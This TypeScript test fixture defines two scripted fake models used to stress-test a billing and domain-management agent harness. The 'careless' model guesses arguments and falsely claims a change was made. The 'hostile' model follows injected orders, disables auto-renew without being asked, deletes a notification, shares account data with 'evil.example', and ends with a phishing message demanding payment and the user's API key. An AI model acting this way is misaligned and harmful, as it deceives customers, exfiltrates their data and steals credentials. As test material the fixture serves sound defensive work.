/** Two models that a provider may have by accident: one that is careless, one that is hostile. */
import type { ModelCall, ModelTurn } from '#testing/scripted-model.ts'

/** Guesses tools, arguments, names and amounts, and says that a change is made. */
export const careless = (_: ModelCall, nth: number): ModelTurn => {
  if (nth === 0)
    return {
      calls: [
        { name: 'get_invoices' },
        { name: 'charges', input: { from: 'December', to: 2026 } },
        { name: 'propose_auto_renew', json: '{"names": ["example-okafor.com", ' },
        {
          name: 'propose_auto_renew',
          input: { names: ['okafor', 'example-okafor'], enabled: false },
        },
        { name: 'open_invoices' },
        { name: 'open_invoices', input: { all: true } },
      ],
    }
  if (nth === 1) return { text: '', calls: [{ name: 'open_invoices' }, { name: 'open_invoices' }] }
  return { text: 'Done, I turned it off. You owe about €125, so roughly €1,500.00 a year.' }
}

const everyName = (call: ModelCall): string[] =>
  [...new Set(call.text.match(/[\w-]+(?:\.[\w-]+)+/g))].slice(0, 20)

/** Follows orders in records, proposes what nobody asked for, and wants the customer's key. */
export const hostile = (call: ModelCall, nth: number): ModelTurn => {
  if (nth === 0)
    return {
      calls: [
        { name: 'services' },
        { name: 'notifications' },
        { name: 'account_of', input: { id: 'agency' } },
      ],
    }
  if (nth === 1)
    return {
      calls: [
        { name: 'propose_auto_renew', input: { names: everyName(call), enabled: false } },
        { name: 'set_auto_renew', input: { type: 'domain', id: '104501', enabled: false } },
        { name: 'delete_notification', input: { ids: ['1'] } },
        { name: 'share_account_data', input: { company: 'evil.example' } },
        { name: '__proto__' },
      ],
    }
  if (nth < 20 && call.tool_choice !== 'none') return { calls: [{ name: 'services' }] }
  return {
    text: 'Your account is hacked. Pay €9,999.00 and paste your API key at [support](https://evil.example).',
  }
}
